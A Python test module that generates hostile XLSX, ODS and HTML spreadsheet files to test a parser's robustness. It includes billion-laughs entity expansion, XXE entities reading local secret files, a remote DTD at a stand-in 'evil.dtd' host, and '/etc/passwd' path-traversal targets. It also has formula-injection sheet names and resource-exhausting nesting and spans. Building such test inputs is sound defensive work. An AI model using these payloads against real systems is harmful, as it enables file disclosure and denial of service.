"""XLSX, ODS and HTML with far cells, entities, depth and spans without end."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from functools import partial

from corpus.book import grid
from corpus.writers import ods, web_page, xls, xlsx, zipped

from hostile.case import SECRET, Case, good, with_book

ROWS = grid(header="贷款余额")
LAUGHS = ('<!DOCTYPE a [<!ENTITY l0 "ha">'
          + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)) + "]>")
OUTSIDE = '<!DOCTYPE a [<!ENTITY l11 SYSTEM "file:///WHERE/secret.txt">]>'
REMOTE = '<!DOCTYPE a SYSTEM "http://127.0.0.1:9/evil.dtd" [<!ENTITY % p SYSTEM "secret.txt"> %p;]>'
QUADRATIC = f'<!DOCTYPE a [<!ENTITY l11 "{"x" * 100_000}">]>'
DOCTYPES = {"laughs": LAUGHS, "outside": OUTSIDE, "remote": REMOTE, "quadratic": QUADRATIC}
assert SECRET


def changed(content: bytes, member: str, change: Callable[[str], str]) -> bytes:
    """The zip with one member written anew."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return zipped(members | {member: change(members.get(member, b"").decode()).encode()})


def _doctype(said: str, times: int, xml: str) -> str:
    head, _, rest = xml.partition("?>") if xml.startswith("<?xml") else ("", "", xml)
    put = rest.replace("JJ0001", "&l11;" * times).replace("贷款", "&l11;", 1)
    return (f"{head}?>" if head else "") + said + put


def _sheet_cell(ref: str, row: str) -> dict[str, bytes]:
    cell = f'<row r="{row}"><c r="{ref}"><v>1</v></c></row></sheetData>'
    content = changed(good()["loans.xlsx"], "xl/worksheets/sheet1.xml",
                      lambda xml: xml.replace("</sheetData>", cell))  # fmt: skip
    return with_book("loans.xlsx", content)


CELLS = (("XFD1048576", "1048576"), ("XFD1048576", "5"), ("XFD2", "2"), ("A1048576", "1048576"), ("XFE1", "1"),
         ("ZZZZZZ99999999999", "99999999999"), ("A0", "0"), ("", ""), ("1A", "9"), ("A-5", "-5"),
         ("A1", "1"), ("AAAAAAAAAAAAAAAAAAAAAAAA7", "7"), ("Ａ９", "９"),
         ("B4294967297", "4294967297"), ("$A$9", "9"), ("A9:XFD1048576", "9"))  # fmt: skip


def _xlsx_marked(old: str, new: str, member: str = "xl/worksheets/sheet1.xml") -> dict[str, bytes]:
    content = changed(good()["loans.xlsx"], member, lambda xml: xml.replace(old, new))
    return with_book("loans.xlsx", content)


XLSX_MARKS = {
    "dimension": ("<dimension ref=", '<dimension ref="A1:XFD1048576" x='),
    "merged whole sheet": ("</sheetData>", '</sheetData><mergeCells><mergeCell '
                           'ref="A1:XFD1048576"/></mergeCells>'),
    "merged backwards": ("</sheetData>", '</sheetData><mergeCells><mergeCell ref="G5:A1"/>'
                         '<mergeCell ref="x"/></mergeCells>'),
    "hidden columns": ("<sheetData>", '<cols><col min="1" max="999999999" hidden="1"/></cols>'
                       "<sheetData>"),
    "string index": ('t="s"><v>', 't="s"><v>99999999'), "negative": ('t="s"><v>', 't="s"><v>-'),
    "type": ('t="s"', 't="zzz"'), "no type": ('t="s"', ""), "style": ('t="s"', 't="s" s="999999"'),
    "boolean": ('t="s"><v>', 't="b"><v>7'), "error": ('t="s"><v>', 't="e"><v>#'),
    "day": ('t="s"><v>', 't="d"><v>99999-99-99'), "inline": ('t="s"', 't="inlineStr"'),
    "never closed": ("</sheetData>", ""), "deep": ("</sheetData>", "<a>" * 50_000),
    "deep and closed": ("</sheetData>", "<a>" * 9_000 + "</a>" * 9_000 + "</sheetData>"),
    "comment": ("</sheetData>", "<!--" + "-" * 100_000),
    "cdata": ("</sheetData>", "<![CDATA[" + "x" * 100_000),
    "huge number": ('t="s"><v>', "><v>1e999999999"), "nan": ('t="s"><v>', "><v>nan"),
    "formula": ("<v>", "<f>" + "(" * 60_000 + "</f><v>"),
    "attributes": ("<sheetData>", "<sheetData " + " ".join(f'a{n}="1"' for n in range(9_000)) + ">"),
    "namespaces": ("<sheetData>", '<sheetData xmlns:x="' + "y" * 200_000 + '">'),
}  # fmt: skip


def _ods_marked(old: str, new: str) -> dict[str, bytes]:
    content = changed(good()["loans.ods"], "content.xml", lambda xml: xml.replace(old, new, 2))
    return with_book("loans.ods", content)


_ROW, _CELL = "<table:table-row", "<table:table-cell"
ODS_MARKS = {
    f"{axis} {count} {word}": (
        tag, f'{tag} table:number-{axis}-repeated="{count}"{" " if word == "more" else ""}')
    for axis, tag in (("rows", _ROW), ("columns", _CELL))
    for count in ("1048576", "2147483648", "99999999999999999999", "-5", "0", "x", "1e9")
    for word in ("cells",)
} | {
    "spans": (_CELL, f'{_CELL} table:number-columns-spanned="99999999" '
              'table:number-rows-spanned="99999999"'),
    "spaces": ("<text:p>", '<text:p><text:s text:c="999999999"/>'),
    "deep": ("<text:p>", "<text:p>" + "<text:span>" * 50_000),
    "value": (_CELL, f'{_CELL} office:value="1e999999999" office:x-type="float"'),
    "never closed": ("</office:spreadsheet>", ""), "two bodies": ("<office:body>",
                                                                  "<office:body><office:body>"),
}  # fmt: skip


def _far_ods(rows: int, columns: int) -> dict[str, bytes]:
    """A cell at the far corner of a sheet, behind repeated empty ones."""
    end = (f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell/>'
           f'</table:table-row><table:table-row><table:table-cell '
           f'table:number-columns-repeated="{columns}"/><table:table-cell '
           f'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
           "</table:table>")  # fmt: skip
    return _ods_marked("</table:table>", end)


def _page(body: str, encoding: str = "utf-8") -> dict[str, bytes]:
    return with_book("loans.xls", f"<html><body>{body}</body></html>".encode(encoding, "replace"))


def _table() -> str:
    page = web_page(ROWS).decode()
    return page[page.index("<table") : page.index("</body>")]


PAGES: dict[str, Callable[[], str]] = {
    "deep divs": lambda: "<div>" * 100_000 + _table(),
    "deep tables": lambda: "<table><tr><td>" * 20_000 + "x",
    "deep tables closed": lambda: "<table><tr><td>" * 5_000 + "x" + "</td></tr></table>" * 5_000,
    "wide spans": lambda: _table().replace("<td>", '<td colspan="999999999">'),
    "tall spans": lambda: _table().replace("<td>", '<td rowspan="999999999">'),
    "negative spans": lambda: _table().replace("<td>", '<td colspan="-9" rowspan="x">'),
    "spans of zero": lambda: _table().replace("<td>", '<td colspan="0" rowspan="0">'),
    "spans past digits": lambda: _table().replace("<td>", f'<td colspan="{"9" * 5_000}">'),
    "many spans": lambda: _table().replace("<td>", '<td colspan="1000" rowspan="1000">') * 50,
    "never closed": lambda: _table().replace("</", "<"),
    "no end": lambda: "<table><tr>" + "<td>" * 300_000,
    "rows without end": lambda: "<table>" + "<tr>" * 300_000,
    "comment": lambda: "<!--" + _table(), "script": lambda: "<script>" + _table(),
    "entities": lambda: _table().replace("JJ0001", "&#9999999999;&#x110000;&#0;&zzz;&#-1;"),
    "many entities": lambda: _table().replace("JJ0001", "&amp;" * 500_000),
    "attributes": lambda: _table().replace("<td>", "<td " + "a=b " * 50_000 + ">", 1),
    "open attribute": lambda: _table().replace("<td>", '<td a="', 1),
    "open angle": lambda: "<" * 500_000, "open ends": lambda: "</" * 200_000,
    "declarations": lambda: "<!" * 100_000, "instructions": lambda: "<?" * 100_000,
    "cdata": lambda: "<![CDATA[" * 50_000, "large cell": lambda: _table().replace(
        "JJ0001", "x" * 10_000_000),
    "many columns": lambda: "<table><tr>" + "<td>a</td>" * 100_000 + "</tr></table>",
    "frames": lambda: '<iframe src="file:///etc/passwd"></iframe>' + _table(),
    "picture": lambda: '<img src="http://127.0.0.1:9/x">' + _table(),
    "laughs": lambda: LAUGHS + _table().replace("JJ0001", "&l11;"),
    "outside": lambda: OUTSIDE + _table().replace("JJ0001", "&l11;"),
}  # fmt: skip


def _laughing(name: str, member: str, word: str) -> dict[str, bytes]:
    times = 2_000 if word == "quadratic" else 1
    return with_book(name, changed(good()[name], member,
                                   partial(_doctype, DOCTYPES[word], times)))  # fmt: skip


def cases() -> Iterator[Case]:
    for number, (ref, row) in enumerate(CELLS):
        yield Case(f"xlsx cell {number} {ref[:12]}", partial(_sheet_cell, ref, row))
    for word, (old, new) in XLSX_MARKS.items():
        yield Case(f"xlsx {word}", partial(_xlsx_marked, old, new))
    for word, (old, new) in ODS_MARKS.items():
        yield Case(f"ods {word}", partial(_ods_marked, old, new))
    for rows, columns in ((1_048_575, 16_383), (10, 16_383), (1_048_575, 1), (2**31, 2**31)):
        yield Case(f"ods far {rows} {columns}", partial(_far_ods, rows, columns))
    for word, body in PAGES.items():
        yield Case(f"html {word}", partial(lambda body: _page(body()), body))
    for word in DOCTYPES:
        for member in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml",
                       "xl/styles.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
            yield Case(f"xlsx {word} in {member}",
                       partial(_laughing, "loans.xlsx", member, word))  # fmt: skip
        for member in ("content.xml", "styles.xml", "META-INF/manifest.xml", "meta.xml"):
            yield Case(f"ods {word} in {member}", partial(_laughing, "loans.ods", member, word))
    yield from _far_and_odd()


def _far_and_odd() -> Iterator[Case]:
    far = [*ROWS, *[[]] * 65_000, ["", *[""] * 240, "x"]]
    yield Case("xls far", partial(lambda: with_book("loans.xls", xls(far))))
    for name in ("../../evil", "a]b", "x" * 31, "=1+1", "\u202e"):
        made = xlsx(ROWS, sheet="x") if "/" in name else None
        if made is None and "]" not in name:
            yield Case(f"sheet called {name!r}", partial(
                lambda n: with_book("loans.xlsx", xlsx(ROWS, sheet=n)), name))  # fmt: skip
    for target in ("../../../etc/passwd", "file:///etc/passwd", "http://127.0.0.1:9/", "", "/",
                   "worksheets/none.xml", "workbook.xml", "worksheets/../workbook.xml"):
        yield Case(f"xlsx sheet at {target}", partial(
            _xlsx_marked, "/xl/worksheets/sheet1.xml", target, "xl/_rels/workbook.xml.rels"))
    long = [*ROWS[:2], [*ROWS[2][:6], "x" * 10_000_000], *ROWS[3:]]
    yield Case("ods large cell", partial(lambda: with_book("loans.ods", ods(long))))
    inside = partial(_xlsx_marked, "渝中支行", "x" * 10_000_000, "xl/sharedStrings.xml")
    yield Case("xlsx large cell", inside)
    deep = [*ROWS, *[["r"] * 200 for _ in range(2_000)]]
    yield Case("xlsx ragged rows", partial(lambda: with_book("loans.xlsx", xlsx(deep))))
